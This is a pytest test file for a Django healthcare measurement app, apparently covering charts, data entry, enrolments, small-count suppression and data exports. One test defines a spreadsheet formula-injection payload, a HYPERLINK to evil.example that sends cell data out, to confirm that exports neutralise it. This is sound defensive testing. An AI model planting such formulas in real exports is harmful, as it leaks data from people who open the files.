"""Pages: the chart, data entry with per-field messages, enrolment, locks, dashboard."""

from __future__ import annotations

from datetime import date

import pytest

from safehands.measurement import periods, services
from safehands.measurement.models import Annotation, DataValue, Enrolment, PeriodLock


def _months(count):
    return periods.latest("monthly", count=count + 1)[:-1]


@pytest.fixture
def with_data(enrolled, tree, measures):
    """24 months of falls.rate for W1 with a clear drop in the last 8 months."""
    rows = []
    for i, key in enumerate(_months(24)):
        falls = 90 + i % 4 if i < 16 else 20 + i % 3
        rows.append(f"W1,falls.rate,{key},{falls},10000,,\n")
        rows.append(f"W2,falls.rate,{key},{5 + i % 3},1100,,\n")
    text = "org_unit,measure,period,numerator,denominator,value,comment\n" + "".join(rows)
    summary = services.data_values_import(text=text, fmt="csv", actor=None)
    assert summary.ok, summary.as_dict()
    return measures


@pytest.fixture
def login(client, make_user):
    def sign_in(*grants):
        user = make_user(f"user{len(grants)}{grants[0][0] if grants else ''}", *grants)
        client.force_login(user)
        return user
    return sign_in


def test_unit_overview_lists_enrolments_and_readings(client, login, with_data):
    login(("W1", "reporter"))
    response = client.get("/measurement/W1/")
    assert response.status_code == 200
    body = response.content.decode()
    assert "Enter this month" in body
    assert 'data-variation="special_cause_improvement"' in body


def test_measure_chart_shows_spec_table_and_downloads(client, login, with_data):
    login(("W1", "viewer"))
    response = client.get("/measurement/W1/measures/falls.rate/")
    assert response.status_code == 200
    body = response.content.decode()
    assert "unit-chart-spec" in body and 'id="chart-table"' in body
    assert "Special cause: improvement" in body
    csv_text = client.get("/measurement/W1/measures/falls.rate/chart.csv").content.decode()
    assert csv_text.splitlines()[0] == "period,numerator,denominator,value,y,cl,lcl,ucl,signal," \
                                       "comment"
    assert len(csv_text.splitlines()) == 25
    svg = client.get("/measurement/W1/measures/falls.rate/chart.svg")
    assert svg["Content-Type"] == "image/svg+xml" and b"<svg" in svg.content
    assert client.get("/measurement/W1/measures/falls.rate/chart.gif").status_code == 404


def test_annotation_is_added_and_drawn(client, login, with_data):
    login(("W1", "reporter"))
    response = client.post("/measurement/W1/annotations/", {
        "measure": "falls.rate", "date": "2025-06-01", "text": "PDSA: hourly rounding",
        "next": "/measurement/W1/measures/falls.rate/"})
    assert response.status_code == 302
    assert Annotation.objects.get().text == "PDSA: hourly rounding"
    body = client.get("/measurement/W1/measures/falls.rate/").content.decode()
    assert "PDSA: hourly rounding" in body


def test_annotation_is_deleted_from_the_chart_page(client, login, with_data, tree):
    from safehands.audit.models import AuditEvent

    user = login(("W1", "reporter"))
    note = services.annotation_create(unit=tree["W1"], on=date(2025, 6, 1),
                                      text="PDSA: hourly rounding", actor=user)
    page = client.get("/measurement/W1/measures/falls.rate/").content.decode()
    action = f'action="/measurement/W1/annotations/{note.pk}/delete/"'
    assert action in page and "Delete annotation" in page
    response = client.post(f"/measurement/W1/annotations/{note.pk}/delete/",
                           {"next": "/measurement/W1/measures/falls.rate/"}, follow=True)
    assert response.redirect_chain == [("/measurement/W1/measures/falls.rate/", 302)]
    assert "Annotation of 2025-06-01 deleted: PDSA: hourly rounding" in (
        response.content.decode())
    assert not Annotation.objects.exists()
    event = AuditEvent.objects.get(action="measurement.annotation.delete")
    assert event.before["text"] == "PDSA: hourly rounding" and event.actor == user


def test_annotation_delete_is_a_post_on_the_notes_own_unit(client, login, with_data, tree):
    login(("H1", "reporter"))
    note = services.annotation_create(unit=tree["W2"], on=date(2025, 6, 1), text="x",
                                      actor=None)
    assert client.get(f"/measurement/W2/annotations/{note.pk}/delete/").status_code == 405
    # W1's address cannot reach a note of W2, even for someone who may write on both.
    assert client.post(f"/measurement/W1/annotations/{note.pk}/delete/").status_code == 404
    response = client.post(f"/measurement/W2/annotations/{note.pk}/delete/",
                           {"next": "//elsewhere.example/"})
    assert response.status_code == 302 and response["Location"] == "/measurement/W2/"
    assert not Annotation.objects.exists()


def test_annotation_delete_needs_data_enter(client, login, with_data, tree):
    login(("W1", "viewer"))
    note = services.annotation_create(unit=tree["W1"], on=date(2025, 6, 1), text="x",
                                      actor=None)
    assert "Delete annotation" not in client.get(
        "/measurement/W1/measures/falls.rate/").content.decode()
    response = client.post(f"/measurement/W1/annotations/{note.pk}/delete/")
    assert response.status_code == 403 and Annotation.objects.filter(pk=note.pk).exists()


def test_annotation_needs_data_enter(client, login, with_data):
    login(("W1", "viewer"))
    response = client.post("/measurement/W1/annotations/", {"date": "2025-06-01", "text": "x"})
    assert response.status_code == 403 and not Annotation.objects.exists()


def test_data_entry_saves_a_month(client, login, enrolled):
    login(("W1", "reporter"))
    month = _months(1)[0]
    page = client.get(f"/measurement/W1/entry/?period={month}")
    assert page.status_code == 200
    rate = next(r for r in page.context["rows"] if r["measure"].code == "falls.rate")
    response = client.post(f"/measurement/W1/entry/?period={month}", {
        "period": month, f"{rate['prefix']}-numerator": "4",
        f"{rate['prefix']}-denominator": "950"})
    assert response.status_code == 302
    value = DataValue.objects.get(measure__code="falls.rate", period=month)
    assert (value.numerator, value.denominator) == (4, 950)


def test_data_entry_shows_a_message_per_field_and_saves_nothing(client, login, enrolled):
    login(("W1", "reporter"))
    month = _months(1)[0]
    rows = client.get(f"/measurement/W1/entry/?period={month}").context["rows"]
    rate = next(r for r in rows if r["measure"].code == "falls.rate")
    risk = next(r for r in rows if r["measure"].code == "falls.risk_assessed")
    response = client.post(f"/measurement/W1/entry/?period={month}", {
        "period": month, f"{rate['prefix']}-numerator": "4",
        f"{rate['prefix']}-denominator": "950",
        f"{risk['prefix']}-numerator": "12", f"{risk['prefix']}-denominator": "10"})
    assert response.status_code == 400
    body = response.content.decode()
    assert "The numerator (12) cannot exceed the denominator (10) of a proportion." in body
    assert 'value="12"' in body
    assert not DataValue.objects.exists()


def test_data_entry_needs_data_enter(client, login, enrolled):
    login(("W1", "viewer"))
    assert client.get("/measurement/W1/entry/").status_code == 403


def test_enrol_page_enrols_and_sets_phase(client, login, tree, catalogue):
    login(("H1", "coordinator"))
    response = client.post("/measurement/W1/enrol/", {
        "target_area": "sepsis", "started": "2025-01-01", "phase": "preparing",
        "aim_text": "All patients screened", "target_value": "95"})
    assert response.status_code == 302
    enrolment = Enrolment.objects.get(unit=tree["W1"])
    assert enrolment.target_value == 95
    response = client.post("/measurement/W1/enrolments/sepsis/", {
        "action": "phase", "phase": "testing", "since": "2025-03-01"})
    assert response.status_code == 302
    enrolment.refresh_from_db()
    assert enrolment.phase == "testing"
    page = client.get("/measurement/W1/enrolments/sepsis/")
    assert "Phase history" in page.content.decode()


def test_enrolment_page_ends_and_reopens_an_enrolment(client, login, enrolled, tree):
    login(("H1", "coordinator"))
    page = client.get("/measurement/W2/enrolments/falls/").content.decode()
    assert 'id="end"' in page and "End the enrolment" in page and 'id="reopen"' not in page
    response = client.post("/measurement/W2/enrolments/falls/",
                           {"action": "end", "ended": "2025-06-30"}, follow=True)
    assert "The enrolment ended on 2025-06-30." in response.content.decode()
    assert Enrolment.objects.get(unit=tree["W2"]).ended == date(2025, 6, 30)
    page = client.get("/measurement/W2/enrolments/falls/").content.decode()
    assert 'id="reopen"' in page and "2025-06-30" in page
    area = client.get("/measurement/H1/target-areas/falls/").content.decode()
    assert "ended 2025-06-30" in area
    response = client.post("/measurement/W2/enrolments/falls/",
                           {"action": "end", "ended": "2022-01-01"}, follow=True)
    assert "cannot be before the enrolment started" in response.content.decode()
    assert Enrolment.objects.get(unit=tree["W2"]).ended == date(2025, 6, 30)
    response = client.post("/measurement/W2/enrolments/falls/", {"action": "reopen"},
                           follow=True)
    assert "The enrolment is open again." in response.content.decode()
    assert Enrolment.objects.get(unit=tree["W2"]).ended is None


def test_ending_an_enrolment_needs_enrolment_manage(client, login, enrolled, tree):
    login(("H1", "reporter"))
    assert 'id="end"' not in client.get("/measurement/W2/enrolments/falls/").content.decode()
    response = client.post("/measurement/W2/enrolments/falls/",
                           {"action": "end", "ended": "2025-06-30"})
    assert response.status_code == 403
    assert Enrolment.objects.get(unit=tree["W2"]).ended is None


def test_enrol_a_facility_enrols_its_units(client, login, tree, catalogue):
    login(("H1", "coordinator"))
    response = client.post("/measurement/H1/enrol/", {
        "target_area": "sepsis", "started": "2025-01-01", "all_units": "1"})
    assert response.status_code == 302
    assert set(Enrolment.objects.values_list("unit__code", flat=True)) == {"W1", "W2"}


def test_enrol_twice_shows_the_reason(client, login, enrolled):
    login(("H1", "coordinator"))
    response = client.post("/measurement/W1/enrol/", {"target_area": "falls",
                                                       "started": "2025-01-01"})
    assert response.status_code == 400
    assert "already enrolled" in response.content.decode()


def test_locks_page_locks_and_unlocks(client, login, enrolled, tree):
    login(("H1", "coordinator"))
    assert client.post("/measurement/H1/locks/", {"action": "lock",
                                                   "period": "2025-01"}).status_code == 302
    lock = PeriodLock.objects.get()
    client.post("/measurement/H1/locks/", {"action": "unlock", "lock": lock.pk,
                                           "reason": "correction"})
    lock.refresh_from_db()
    assert lock.unlock_reason == "correction"


def test_rollup_and_dashboard(client, login, with_data):
    login(("NO", "viewer"))
    response = client.get("/measurement/H1/rollups/falls.rate/")
    assert response.status_code == 200
    assert response.context["points"][-1].reporting_units == 2
    csv_text = client.get("/measurement/H1/rollups/falls.rate/rollup.csv").content.decode()
    assert csv_text.startswith("period,numerator,denominator,value,reporting_units,"
                               "expected_units\n")
    board = client.get("/measurement/NO/dashboard/")
    assert board.status_code == 200
    body = board.content.decode()
    assert 'id="signal-matrix"' in body and 'id="completeness"' in body
    from safehands.measurement.models import EntryBatch

    assert board.context["board"].as_of == EntryBatch.objects.latest("at").at
    assert 'id="as-of"' in body
    assert board.context["board"].enrolled == {"falls": 3}


def test_rollup_breakdown_suppresses_small_counts_for_viewers(client, login, with_data, tree):
    services.data_value_upsert(unit=tree["W2"], measure=with_data["falls.rate"],
                               period=_months(1)[0], numerator=3, denominator=1000, actor=None)
    login(("NO", "viewer"))
    rows = client.get("/measurement/H1/rollups/falls.rate/").context["breakdown"]
    # W2's 3 is below 5; W1 is hidden too, or the total would give W2 back.
    assert [r["suppressed"] for r in rows] == [True, True]
    body = client.get("/measurement/H1/rollups/falls.rate/").content.decode()
    assert "suppressed" in body


def test_rollup_breakdown_follows_the_small_cell_setting(client, login, with_data, tree,
                                                         settings):
    # The latest month: W1 reported 22 falls, W2 7.
    login(("NO", "viewer"))
    url = "/measurement/H1/rollups/falls.rate/"
    assert [r["suppressed"] for r in client.get(url).context["breakdown"]] == [False, False]
    settings.SAFEHANDS_SMALL_CELL_THRESHOLD = 10
    # W2's 7 is now small; W1 goes with it, or the total would give W2 back.
    assert [r["suppressed"] for r in client.get(url).context["breakdown"]] == [True, True]
    settings.SAFEHANDS_SMALL_CELL_THRESHOLD = 7
    assert [r["suppressed"] for r in client.get(url).context["breakdown"]] == [False, False]


def test_rollup_breakdown_is_not_suppressed_for_the_team(client, login, with_data):
    login(("H1", "reporter"))
    rows = client.get("/measurement/H1/rollups/falls.rate/").context["breakdown"]
    assert not any(r.get("suppressed") for r in rows)


def test_target_area_view(client, login, with_data):
    login(("NO", "viewer"))
    response = client.get("/measurement/NO/target-areas/falls/")
    assert response.status_code == 200
    assert len(response.context["table"]) == 3
    assert client.get("/measurement/NO/target-areas/nope/").status_code == 404


def test_bundle_audit_page(client, login, enrolled, measures):
    login(("W1", "reporter"))
    month = _months(1)[0]
    measure = measures["falls.bundle_compliance"]
    url = f"/measurement/W1/audits/falls.bundle_compliance/{month}/"
    assert client.get(url).status_code == 200
    answers = {f"e-{e.code}": "yes" for e in measure.compliance_elements.all()}
    assert client.post(url, {"reference": "1", **answers}).status_code == 302
    value = DataValue.objects.get(measure=measure, period=month)
    assert (value.numerator, value.denominator) == (1, 1)
    assert date.today() >= value.period_start


@pytest.mark.parametrize("fmt", ["csv", "json", "fhir"])
def test_api_export_imports_back_unchanged(client, login, with_data, fmt):
    import json

    login(("H1", "reporter"))
    response = client.get(f"/api/v1/measurement/units/H1/export?format={fmt}&subtree=true")
    assert response.status_code == 200
    text = response.content.decode()
    result = client.post("/api/v1/measurement/imports", json.dumps(
        {"format": fmt, "text": text}), content_type="application/json")
    assert result.status_code == 200
    assert result.json()["counts"] == {"created": 0, "updated": 0, "unchanged": 48,
                                       "ignored": 0}


def test_dashboard_is_recomputed_after_any_write(client, login, with_data, tree):
    from safehands.measurement.queries import data_version

    login(("NO", "viewer"))
    before = data_version()
    first = client.get("/measurement/NO/dashboard/").context["board"]
    value = DataValue.objects.filter(unit=tree["W2"]).first()
    services.data_value_delete(data_value=value, actor=None)
    assert data_version() != before
    second = client.get("/measurement/NO/dashboard/").context["board"]
    assert second is not first


def test_dashboard_downloads_its_tables_and_spread_charts(client, login, with_data, tree):
    import csv
    import io

    login(("NO", "viewer"))
    board = client.get("/measurement/NO/dashboard/")
    assert "/measurement/NO/dashboard/signals.csv" in board.content.decode()

    def table(part: str) -> list[dict[str, str]]:
        response = client.get(f"/measurement/NO/dashboard/{part}.csv")
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        return list(csv.DictReader(io.StringIO(response.content.decode())))

    signals = table("signals")
    rows = board.context["board"].rows
    assert len(signals) == len(rows) * len(board.context["board"].measures)
    r1 = [s for s in signals if s["org_unit"] == "R1" and s["measure"] == "falls.rate"]
    reading = board.context["board"].readings[(tree["R1"].pk, with_data["falls.rate"].pk)]
    assert r1 == [{"org_unit": "R1", "org_unit_name": "Region One", "measure": "falls.rate",
                   "variation": reading["variation"], "side": reading["side"] or "",
                   "assurance": reading["assurance"] or "",
                   "runs_signal": "true" if reading["runs_signal"] else "false",
                   "sigma_signals": str(reading["sigma_signals"])}]
    assert {s["variation"] for s in signals if s["org_unit"] == "M1"} == {"too_few_values"}

    completeness = table("completeness")
    expected = board.context["board"].completeness[with_data["falls.rate"].pk]
    assert [(c["period"], int(c["reporting_units"]), int(c["expected_units"]))
            for c in completeness if c["measure"] == "falls.rate"] == expected

    spread = table("spread")
    assert {s["target_area"] for s in spread} == {"falls"}
    last_month = board.context["board"].spread_months[-1]
    assert sum(int(s["units"]) for s in spread if s["month"] == last_month) == 3

    svg = client.get("/measurement/NO/dashboard/spread-falls.svg")
    assert svg.status_code == 200 and svg["Content-Type"] == "image/svg+xml"
    assert b"<svg" in svg.content
    assert client.get("/measurement/NO/dashboard/spread-sepsis.svg").status_code == 404
    assert client.get("/measurement/NO/dashboard/signals.pdf").status_code == 404


# --- Small counts in raw values for people outside the team --------------------------------

def _api_values(client, code="H1"):
    rows = client.get(f"/api/v1/measurement/units/{code}/values?subtree=true").json()
    return {(r["org_unit"], r["measure"], r["period"]): r for r in rows}


def test_api_values_suppress_small_counts_for_a_viewer(client, login, small):
    login(("H1", "viewer"))
    rows = _api_values(client)
    falls = rows[("W1", "falls.rate", "2026-01")]
    assert (falls["numerator"], falls["denominator"], falls["suppressed"]) == (None, 1000, True)
    assert rows[("W1", "local.w1.huddles", "2026-01")]["value"] is None
    assert rows[("W2", "falls.rate", "2026-01")]["numerator"] == 12
    assert not rows[("W2", "falls.rate", "2026-01")]["suppressed"]


def test_api_values_show_a_reporter_everything_on_their_units(client, login, small):
    login(("H1", "reporter"))
    rows = _api_values(client)
    assert rows[("W1", "falls.rate", "2026-01")]["numerator"] == 2
    assert rows[("W2", "falls.risk_assessed", "2026-01")]["numerator"] == 0
    assert not any(r["suppressed"] for r in rows.values())


def test_api_export_marks_suppressed_rows_in_every_format(client, login, small):
    import json

    login(("H1", "viewer"))
    url = "/api/v1/measurement/units/H1/export?subtree=true&format="
    lines = client.get(url + "csv").content.decode().splitlines()
    assert lines[0] == "org_unit,measure,period,numerator,denominator,value,comment,suppressed"
    assert "W1,falls.rate,2026-01,,1000,,two falls,yes" in lines
    assert "W2,falls.rate,2026-01,12,1100,,," in lines
    records = json.loads(client.get(url + "json").content)
    marked = [r for r in records if r.get("suppressed")]
    assert {(r["org_unit"], r["measure"], r["period"]) for r in marked} == {
        ("W1", "falls.rate", "2026-01"), ("W2", "falls.risk_assessed", "2026-01"),
        ("W1", "local.w1.huddles", "2026-01")}
    assert all(r["numerator"] is None and r["value"] is None for r in marked)
    bundle = json.loads(client.get(url + "fhir").content)
    masked = [e["resource"] for e in bundle["entry"] if "masked" in json.dumps(e)]
    assert len(masked) == 3
    huddles = next(r for r in masked if r["measure"].endswith("local.w1.huddles"))
    assert huddles["group"][0]["measureScore"]["extension"][0]["valueCode"] == "masked"


@pytest.mark.parametrize("fmt", ["csv", "json", "fhir"])
def test_a_viewers_export_does_not_import_suppressed_rows(client, login, small, fmt):
    login(("H1", "viewer"))
    text = client.get(f"/api/v1/measurement/units/H1/export?subtree=true&format={fmt}").content
    summary = services.data_values_import(text=text.decode(), fmt=fmt, actor=None)
    marked = [c for c in summary.conflicts if c.field == "suppressed"]
    assert len(marked) == 3 and summary.created == summary.updated == 0
    assert "suppressed in the export" in marked[0].message


@pytest.mark.parametrize("fmt", ["csv", "json", "fhir"])
def test_a_reporters_export_with_small_counts_imports_back_unchanged(client, login, small,
                                                                      fmt):
    import json

    login(("H1", "reporter"))
    text = client.get(
        f"/api/v1/measurement/units/H1/export?subtree=true&format={fmt}").content.decode()
    assert "suppressed" not in text and "masked" not in text
    result = client.post("/api/v1/measurement/imports", json.dumps(
        {"format": fmt, "text": text}), content_type="application/json")
    assert result.status_code == 200, result.json()
    assert result.json()["counts"] == {"created": 0, "updated": 0, "unchanged": 5,
                                       "ignored": 0}


def _a_year_before(tree, measures):
    """Twelve months of 10 to 21 falls before the small January, so the chart is drawn."""
    for i, key in enumerate(f"2025-{m:02d}" for m in range(1, 13)):
        services.data_value_upsert(unit=tree["W1"], measure=measures["falls.rate"], period=key,
                                   numerator=10 + i, denominator=1000, actor=None)


def test_chart_table_and_csv_suppress_small_counts_for_a_viewer(client, login, small,
                                                                measures):
    _a_year_before(small, measures)
    login(("H1", "viewer"))
    page = client.get("/measurement/W1/measures/falls.rate/")
    table = page.context["table"]
    assert page.context["spec"] is not None and len(table) == 13
    assert (table[0]["numerator"], table[0]["y"], table[0]["suppressed"]) == (10, 10, False)
    row = table[-1]
    assert (row["numerator"], row["y"], row["denominator"], row["suppressed"]) == (
        None, None, 1000, True)
    assert row["cl"] is not None
    assert 'id="small-counts-note"' in page.content.decode()
    lines = client.get("/measurement/W1/measures/falls.rate/chart.csv").content.decode(
    ).splitlines()
    assert lines[0].endswith(",comment,suppressed")
    assert lines[-1].startswith("2026-01,,1000,,,") and lines[-1].endswith(",true")
    overview = client.get("/measurement/W1/").context["rows"]
    huddles = next(r for r in overview if r["measure"].code == "local.w1.huddles")
    assert huddles["shown"] == 8 and not huddles["suppressed"]  # the latest month: 8


def test_chart_csv_is_whole_for_the_units_reporter(client, login, small, measures):
    _a_year_before(small, measures)
    login(("W1", "reporter"))
    lines = client.get("/measurement/W1/measures/falls.rate/chart.csv").content.decode(
    ).splitlines()
    assert lines[0].endswith(",comment")
    assert lines[-1].startswith("2026-01,2,1000,,2,")
    assert 'id="small-counts-note"' not in client.get(
        "/measurement/W1/measures/falls.rate/").content.decode()


def test_api_enrolments_give_the_end(client, login, enrolled):
    services.enrolment_end(enrolment=enrolled["W2"], ended=date(2025, 6, 30), actor=None)
    login(("H1", "viewer"))
    rows = {r["unit"]: r for r in client.get("/api/v1/measurement/enrolments").json()}
    assert (rows["W1"]["ended"], rows["W2"]["ended"]) == (None, "2025-06-30")


def test_rollup_tables_suppress_small_counts_for_viewers(client, login, with_data, tree):
    import json

    month = _months(1)[0]
    services.data_value_upsert(unit=tree["W2"], measure=with_data["falls.rate"],
                               period=month, numerator=3, denominator=1000, actor=None)
    login(("NO", "viewer"))
    page = client.get("/measurement/W2/rollups/falls.rate/")
    rows = {r["period"]: r for r in page.context["rows"]}
    assert rows[month]["suppressed"] and rows[month]["numerator"] is None
    assert rows[month]["value"] is None and rows[month]["denominator"] == 1000
    assert not rows[_months(2)[0]]["suppressed"]  # 5 or more: shown
    lines = client.get("/measurement/W2/rollups/falls.rate/rollup.csv").content.decode()
    header, *body = lines.splitlines()
    assert header.endswith(",suppressed")
    assert f"{month},,1000,,1,1,true" in body
    api = client.get("/api/v1/measurement/units/W2/rollups/falls.rate").json()
    last = next(p for p in api if p["period"] == month)
    assert (last["numerator"], last["value"], last["suppressed"]) == (None, None, True)
    # The team sees its own numbers.
    login(("W2", "reporter"))
    lines = client.get("/measurement/W2/rollups/falls.rate/rollup.csv").content.decode()
    assert "suppressed" not in lines.splitlines()[0]
    assert json.loads(client.get("/api/v1/measurement/units/W2/rollups/falls.rate").content)[
        -1]["numerator"] == 3


@pytest.mark.parametrize("page", ["/measurement/W1/", "/measurement/W1/measures/falls.rate/"])
def test_breadcrumbs_lead_a_ward_team_only_to_pages_it_may_open(client, login, with_data, page):
    import re

    login(("W1", "reporter"))
    body = client.get(page).content.decode()
    crumbs = re.search(r'<div class="crumbs">(.*?)</div>', body, re.S).group(1)
    links = re.findall(r'href="([^"]+)"', crumbs)
    for link in links:
        assert client.get(link).status_code == 200, link
    assert "/measurement/H1/" not in links and "/measurement/NO/" not in links


def test_breadcrumbs_show_the_line_to_a_coordinator_above(client, login, with_data):
    login(("H1", "coordinator"))
    body = client.get("/measurement/W1/").content.decode()
    assert 'href="/measurement/H1/"' in body
    assert 'href="/measurement/T1/"' not in body  # a hospital role does not reach the trust


FORMULA_COMMENT = '=HYPERLINK("http://evil.example/?x="&A1)'


def _formula_comment(tree, measures):
    services.data_value_upsert(unit=tree["W1"], measure=measures["falls.rate"],
                               period=_months(1)[0], numerator=3, denominator=1000,
                               comment=FORMULA_COMMENT, actor=None)


def test_chart_csv_and_api_export_write_a_formula_comment_as_text(client, login, with_data,
                                                                    tree):
    import csv as csv_module
    import io
    import json

    _formula_comment(tree, with_data)
    login(("W1", "reporter"))
    chart = client.get("/measurement/W1/measures/falls.rate/chart.csv").content.decode()
    exported = client.get("/api/v1/measurement/units/W1/export?format=csv").content.decode()
    for text in (chart, exported):
        cells = [c for row in csv_module.reader(io.StringIO(text)) for c in row]
        assert "'" + FORMULA_COMMENT in cells
        assert not [c for c in cells if c.startswith("=")]
    result = client.post("/api/v1/measurement/imports", json.dumps(
        {"format": "csv", "text": exported}), content_type="application/json")
    assert result.json()["counts"]["updated"] == 0  # the comment reads back as it was
    assert DataValue.objects.get(unit=tree["W1"], comment__startswith="=").comment \
        == FORMULA_COMMENT
